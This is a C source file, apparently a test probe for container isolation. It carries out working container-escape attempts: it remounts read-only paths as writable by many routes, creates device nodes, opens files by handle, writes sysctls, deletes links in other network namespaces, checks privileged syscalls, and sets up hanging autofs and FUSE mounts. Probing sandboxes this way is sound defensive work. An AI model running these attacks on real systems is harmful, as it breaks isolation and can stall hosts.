/* SPDX-License-Identifier: MIT */
/*
 * attack WHAT [ARGUMENT...] - try to leave a container
 *
 * unseal PATH FILE     make PATH writable, and open FILE below it (. is PATH);
 *                      prints each way that works
 * superblock PATH      the same for its whole file system: remount it read-only
 * device b|c MAJ MIN   make a device node and open it
 * handle PATH          open PATH by its file handle
 * sysctl NAME          mount proc anew, and open one of its sysctls for writing
 * links NSID           print the links of another network namespace
 * unlink NSID LINK     delete one of them
 * connect NAME         connect to a Unix socket; @NAME is an abstract one
 * lock FILE            lock FILE, and hold the lock
 * calls                system calls that no container needs
 * tun NAME             make a TUN interface
 * user                 print the effective user ID
 * packets              open a socket for all packets of the network
 * clock                set the clock, to no valid value
 * autofs DIR           mount an autofs that never answers, and hold it
 * fuse DIR             mount a FUSE that takes every request, and answers none
 *                      but the first
 *
 * Exit status: 0 the attack worked, 1 it was refused.  Nothing is written.
 */
#define _GNU_SOURCE
#include <err.h>
#include <errno.h>
#include <fcntl.h>
#include <net/if.h>
#include <sched.h>
#include <stdbool.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/file.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/timex.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>
#include <linux/bpf.h>
#include <linux/fuse.h>
#include <linux/if_tun.h>
#include <linux/rtnetlink.h>

#define AT "/tmp/attack.at"
#define BELOW "/tmp/attack.below"

static const char *path, *file;
static struct stat original;

/* name_in - the path of the file below dir, which may be the file itself */
static const char *
name_in(const char *dir)
{
	static char name[4096];

	if (!strcmp(file, "."))
		return dir;
	snprintf(name, sizeof(name), "%s/%s", dir, file);
	return name;
}

/* is_open - is this the file, and can it be written to? */
static bool
is_open(const char *dir)
{
	struct stat st;
	int fd = open(name_in(dir), O_WRONLY | O_NONBLOCK | O_CLOEXEC);

	return fd >= 0 && fstat(fd, &st) == 0 && st.st_ino == original.st_ino &&
	    st.st_dev == original.st_dev;
}

/* make_at - a mount point of the right kind */
static void
make_at(void)
{
	struct stat st;

	(void)rmdir(AT);
	(void)unlink(AT);
	if (stat(path, &st) == 0 && S_ISDIR(st.st_mode))
		(void)mkdir(AT, 0755);
	else
		close(open(AT, O_CREAT | O_WRONLY | O_CLOEXEC, 0644));
}

static void
clear_flags(const char *at)
{
	struct mount_attr attr = { .attr_clr = MOUNT_ATTR_RDONLY };

	(void)mount(NULL, at, NULL, MS_REMOUNT | MS_BIND, NULL);
	(void)syscall(SYS_mount_setattr, AT_FDCWD, at, 0, &attr, sizeof(attr));
	(void)syscall(SYS_mount_setattr, AT_FDCWD, at, AT_RECURSIVE, &attr,
	    sizeof(attr));
}

static void
remount_it(void)
{
	clear_flags(path);
}

static void
bind_it(void)
{
	(void)mount(path, AT, NULL, MS_BIND, NULL);
	clear_flags(AT);
}

static void
rbind_it(void)
{
	(void)mount(path, AT, NULL, MS_BIND | MS_REC, NULL);
	clear_flags(AT);
}

static void
move_it(void)
{
	(void)mount(path, AT, NULL, MS_MOVE, NULL);
	clear_flags(AT);
}


static void
uncover(void)
{
	for (int i = 0; i < 4 && umount2(path, MNT_DETACH) == 0; i++)
		clear_flags(path);
}

/* A path of another process leads to the same mounts. */
static void
by_proc(void)
{
	char root[4096];

	snprintf(root, sizeof(root), "/proc/1/root%s", path);
	clear_flags(root);
	(void)mount(root, AT, NULL, MS_BIND, NULL);
	clear_flags(AT);
}

static void
by_descriptor(void)
{
	char self[64];
	int fd = open(path, O_PATH | O_CLOEXEC);

	snprintf(self, sizeof(self), "/proc/self/fd/%d", fd);
	clear_flags(self);
	(void)mount(self, AT, NULL, MS_BIND, NULL);
	clear_flags(AT);
}

static void
detached(void)
{
	struct mount_attr attr = { .attr_clr = MOUNT_ATTR_RDONLY };

	for (unsigned rec = 0; rec <= 1; rec++) {
		int tree = (int)syscall(SYS_open_tree, AT_FDCWD, path,
		    OPEN_TREE_CLONE | OPEN_TREE_CLOEXEC | (rec ? AT_RECURSIVE : 0));

		(void)syscall(SYS_mount_setattr, tree, "", AT_EMPTY_PATH |
		    (rec ? AT_RECURSIVE : 0), &attr, sizeof(attr));
		(void)syscall(SYS_move_mount, tree, "", AT_FDCWD, AT,
		    MOVE_MOUNT_F_EMPTY_PATH);
		clear_flags(AT);
	}
}

static void
overlay(void)
{
	char options[9000];

	(void)mkdir(BELOW, 0755);
	(void)mount("attack", BELOW, "tmpfs", 0, NULL);
	(void)mkdir(BELOW "/lower", 0755);
	snprintf(options, sizeof(options), "lowerdir=" BELOW "/lower,upperdir=%s,"
	    "workdir=%s", path, path);
	(void)mount("attack", AT, "overlay", 0, options);
}

static void
by_chroot(void)
{
	(void)mount("/", AT, NULL, MS_BIND | MS_REC, NULL);
	if (chroot(AT) == 0)
		clear_flags(path);
}

static const struct way { const char *name; void (*go)(void); } ways[] = {
	{ "remount", remount_it }, { "bind", bind_it }, { "rbind", rbind_it },
	{ "move", move_it }, { "uncover", uncover }, { "by_proc", by_proc },
	{ "by_descriptor", by_descriptor }, { "detached", detached },
	{ "overlay", overlay }, { "by_chroot", by_chroot },
};

static void
write_file(const char *name, const char *text)
{
	int fd = open(name, O_WRONLY | O_CLOEXEC);

	if (fd >= 0 && write(fd, text, strlen(text)) < 0)
		warn("%s", name);
	close(fd);
}

/* try - in a mount namespace of its own, and a user namespace if users */
static bool
try(const struct way *w, bool users)
{
	pid_t pid = fork();
	int status;

	if (pid == 0) {
		if (unshare(CLONE_NEWNS | (users ? CLONE_NEWUSER : 0)) < 0)
			_exit(1);
		if (users) {
			write_file("/proc/self/setgroups", "deny");
			write_file("/proc/self/uid_map", "0 0 1");
			write_file("/proc/self/gid_map", "0 0 1");
		}
		(void)mount("", "/", NULL, MS_PRIVATE | MS_REC, NULL);
		w->go();
		_exit(!is_open(path) && !is_open(AT));
	}
	if (pid < 0 || waitpid(pid, &status, 0) < 0)
		err(2, "fork");
	return status == 0;
}

static int
unseal(void)
{
	int worked = 0;

	if (stat(name_in(path), &original) < 0)
		err(2, "%s", name_in(path));
	make_at();
	for (size_t i = 0; i < 2 * sizeof(ways) / sizeof(*ways); i++)
		if (try(&ways[i / 2], i % 2)) {
			printf("%s%s\n", ways[i / 2].name,
			    i % 2 ? " in a user namespace" : "");
			worked++;
		}
	return !worked;
}

static int
superblock(void)
{
	if (mount(NULL, path, NULL, MS_REMOUNT | MS_RDONLY, NULL) == 0)
		return 0;
	warn("remount");
	return 1;
}

static int
device(const char *kind, unsigned major, unsigned minor)
{
	static const char node[] = "/attack.node";
	int fd;

	(void)unlink(node);
	if (mknod(node, 0666 | (*kind == 'b' ? S_IFBLK : S_IFCHR),
	    makedev(major, minor)) < 0) {
		warn("mknod");
		return 1;
	}
	fd = open(node, O_RDONLY | O_NONBLOCK | O_CLOEXEC);
	if (fd < 0)
		warn("open");
	(void)unlink(node);
	/* No driver: the container may open it. */
	return !(fd >= 0 || errno == ENXIO || errno == ENODEV);
}

static int
handle(void)
{
	struct { struct file_handle h; unsigned char room[MAX_HANDLE_SZ]; } it;
	int id, at = open(path, O_RDONLY | O_CLOEXEC);

	it.h.handle_bytes = MAX_HANDLE_SZ;
	if (name_to_handle_at(AT_FDCWD, path, &it.h, &id, AT_SYMLINK_FOLLOW) < 0)
		warn("name_to_handle_at");
	else if (open_by_handle_at(at, &it.h, O_RDONLY) < 0)
		warn("open_by_handle_at");
	else
		return 0;
	return 1;
}

static int
sysctl(const char *name)
{
	char at[4096];
	bool open_at;

	snprintf(at, sizeof(at), "/proc/sys/%s", name);
	(void)mkdir(AT, 0755);
	if (unshare(CLONE_NEWNS) < 0)
		err(1, "unshare");
	(void)mount("", "/", NULL, MS_PRIVATE | MS_REC, NULL);
	(void)mount(NULL, "/proc/sys", NULL, MS_REMOUNT | MS_BIND, NULL);
	open_at = open(at, O_WRONLY | O_CLOEXEC) >= 0;
	(void)umount2("/proc/sys", MNT_DETACH);
	open_at |= open(at, O_WRONLY | O_CLOEXEC) >= 0;
	if (mount("proc", AT, "proc", 0, NULL) < 0)
		warn("mount proc");
	snprintf(at, sizeof(at), AT "/sys/%s", name);
	if (!open_at && open(at, O_WRONLY | O_CLOEXEC) < 0) {
		warn("%s", at);
		return 1;
	}
	return 0;
}

struct request {
	struct nlmsghdr h;
	struct ifinfomsg i;
	char attributes[256];
};

static void
add(struct request *r, unsigned short type, const void *data, size_t n)
{
	struct rtattr *a = (struct rtattr *)((char *)r + NLMSG_ALIGN(r->h.nlmsg_len));

	a->rta_type = type;
	a->rta_len = (unsigned short)RTA_LENGTH(n);
	memcpy(RTA_DATA(a), data, n);
	r->h.nlmsg_len = (unsigned)(NLMSG_ALIGN(r->h.nlmsg_len) + RTA_ALIGN(a->rta_len));
}

static void
print_name(struct nlmsghdr *h)
{
	struct ifinfomsg *i = NLMSG_DATA(h);
	int left = (int)IFLA_PAYLOAD(h);

	for (struct rtattr *a = IFLA_RTA(i); RTA_OK(a, left); a = RTA_NEXT(a, left))
		if (a->rta_type == IFLA_IFNAME)
			puts(RTA_DATA(a));
}

/* links - list those of a namespace, or delete one */
static int
links(int nsid, const char *gone)
{
	struct request r = { .h = { .nlmsg_len = NLMSG_LENGTH(sizeof(r.i)),
	    .nlmsg_type = gone ? RTM_DELLINK : RTM_GETLINK,
	    .nlmsg_flags = NLM_F_REQUEST | (gone ? NLM_F_ACK : NLM_F_DUMP) } };
	static char answer[65536] __attribute__((aligned(8)));
	int s = socket(AF_NETLINK, SOCK_RAW | SOCK_CLOEXEC, NETLINK_ROUTE);
	int n;

	add(&r, IFLA_TARGET_NETNSID, &nsid, sizeof(nsid));
	if (gone)
		add(&r, IFLA_IFNAME, gone, strlen(gone) + 1);
	if (s < 0 || send(s, &r, r.h.nlmsg_len, 0) < 0)
		err(1, "netlink");
	while ((n = (int)recv(s, answer, sizeof(answer), 0)) > 0)
		for (struct nlmsghdr *h = (void *)answer; NLMSG_OK(h, (unsigned)n);
		    h = NLMSG_NEXT(h, n)) {
			/* Both begin with an error, or 0. */
			if (h->nlmsg_type == NLMSG_DONE ||
			    h->nlmsg_type == NLMSG_ERROR) {
				errno = -*(int *)NLMSG_DATA(h);
				if (errno)
					warn("netlink");
				return errno != 0;
			}
			print_name(h);
		}
	return 1;
}

static int
connects(const char *name)
{
	struct sockaddr_un sa = { .sun_family = AF_UNIX };
	int s = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);

	strncpy(sa.sun_path, name, sizeof(sa.sun_path) - 1);
	if (*name == '@')
		sa.sun_path[0] = '\0';
	if (connect(s, (struct sockaddr *)&sa, (socklen_t)(strlen(name) +
	    offsetof(struct sockaddr_un, sun_path))) == 0)
		return 0;
	warn("connect");
	return 1;
}

static int
lock(const char *name)
{
	struct flock whole = { .l_type = F_RDLCK, .l_whence = SEEK_SET };
	int fd = open(name, O_RDONLY | O_CLOEXEC);

	if (fd < 0)
		err(1, "%s", name);
	if (flock(fd, LOCK_EX | LOCK_NB) < 0 && fcntl(fd, F_SETLK, &whole) < 0)
		err(1, "lock %s", name);
	puts("locked");
	fflush(stdout);
	pause();
	return 0;
}

/* allowed - was that call let through to the kernel's own checks? */
static int
allowed(const char *name, long result)
{
	bool refused = result < 0 && (errno == EPERM || errno == ENOSYS);

	if (!refused)
		puts(name);
	return !refused;
}

static int
calls(void)
{
	union bpf_attr attr = { .start_id = 0 };
	int n = 0;

	n += allowed("bpf", syscall(SYS_bpf, BPF_PROG_GET_NEXT_ID, &attr, sizeof(attr)));
	n += allowed("init_module", syscall(SYS_init_module, NULL, 0, NULL));
	n += allowed("finit_module", syscall(SYS_finit_module, -1, NULL, 0));
	n += allowed("delete_module", syscall(SYS_delete_module, NULL, 0));
	n += allowed("open_by_handle_at", syscall(SYS_open_by_handle_at, -1, NULL, 0));
	n += allowed("perf_event_open", syscall(SYS_perf_event_open, NULL, 0, -1, -1, 0));
#ifdef SYS_iopl	/* of x86 */
	n += allowed("iopl", syscall(SYS_iopl, 3));
#endif
	n += allowed("swapoff", syscall(SYS_swapoff, "/nothing"));
	n += allowed("acct", syscall(SYS_acct, "/nothing"));
	return n == 0;
}

static int
tun(const char *name)
{
	struct ifreq r = { .ifr_flags = IFF_TUN };
	int fd = open("/dev/net/tun", O_RDWR | O_CLOEXEC);

	strncpy(r.ifr_name, name, sizeof(r.ifr_name) - 1);
	if (fd >= 0 && ioctl(fd, TUNSETIFF, &r) == 0)
		return 0;
	warn("tun");
	return 1;
}

static int
packets(void)
{
	if (socket(AF_PACKET, SOCK_RAW | SOCK_CLOEXEC, 0) >= 0)
		return 0;
	warn("packets");
	return 1;
}

static int
set_clock(void)
{
	struct timex t = { .modes = ADJ_TICK, .tick = 0 };

	/* Wrong values are found after missing rights. */
	return !(adjtimex(&t) < 0 && errno == EINVAL);
}

static int
autofs(const char *dir)
{
	char options[128];
	int p[2];

	if (pipe(p) < 0)
		err(2, "pipe");
	snprintf(options, sizeof(options), "fd=%d,pgrp=%d,minproto=5,maxproto=5,"
	    "direct", p[1], (int)getpgrp());
	if (mount("attack", dir, "autofs", 0, options) < 0)
		err(1, "autofs");
	puts("mounted");
	fflush(stdout);
	pause();
	return 0;
}

/*
 * A request that its server has taken waits for the answer, even if the process
 * that made it is killed.
 */
static int
fuse(const char *dir)
{
	static char request[1 << 17];
	struct {
		struct fuse_out_header head;
		struct fuse_init_out init;
	} answer = { .init = { .major = FUSE_KERNEL_VERSION, .minor = 31,
	    .max_write = 4096 } };
	const struct fuse_in_header *in = (const void *)request;
	char options[128];
	int fd = open("/dev/fuse", O_RDWR | O_CLOEXEC);

	snprintf(options, sizeof(options), "fd=%d,rootmode=40000,user_id=0,"
	    "group_id=0", fd);
	if (fd < 0 || mount("attack", dir, "fuse", 0, options) < 0 ||
	    read(fd, request, sizeof(request)) < (ssize_t)sizeof(*in))
		err(1, "fuse");
	answer.head.len = sizeof(answer);
	answer.head.unique = in->unique;
	if (write(fd, &answer, sizeof(answer)) < 0)
		err(1, "fuse: answer");
	puts("mounted");
	fflush(stdout);
	while (read(fd, request, sizeof(request)) >= 0)
		;
	return 0;
}

int
main(int argc, char *argv[])
{
	const char *what = argc > 1 ? argv[1] : "";
	const char *a = argc > 2 ? argv[2] : "", *b = argc > 3 ? argv[3] : "";

	path = a;
	file = b;
	if (!strcmp(what, "unseal") && argc == 4)
		return unseal();
	if (!strcmp(what, "superblock") && argc == 3)
		return superblock();
	if (!strcmp(what, "device") && argc == 5)
		return device(a, (unsigned)atoi(b), (unsigned)atoi(argv[4]));
	if (!strcmp(what, "handle") && argc == 3)
		return handle();
	if (!strcmp(what, "sysctl") && argc == 3)
		return sysctl(a);
	if (!strcmp(what, "links") && argc == 3)
		return links(atoi(a), NULL);
	if (!strcmp(what, "unlink") && argc == 4)
		return links(atoi(a), b);
	if (!strcmp(what, "connect") && argc == 3)
		return connects(a);
	if (!strcmp(what, "lock") && argc == 3)
		return lock(a);
	if (!strcmp(what, "calls") && argc == 2)
		return calls();
	if (!strcmp(what, "tun") && argc == 3)
		return tun(a);
	if (!strcmp(what, "user") && argc == 2)
		return printf("%u\n", geteuid()) < 0;
	if (!strcmp(what, "packets") && argc == 2)
		return packets();
	if (!strcmp(what, "clock") && argc == 2)
		return set_clock();
	if (!strcmp(what, "autofs") && argc == 3)
		return autofs(a);
	if (!strcmp(what, "fuse") && argc == 3)
		return fuse(a);
	errx(2, "unknown attack: %s", what);
}
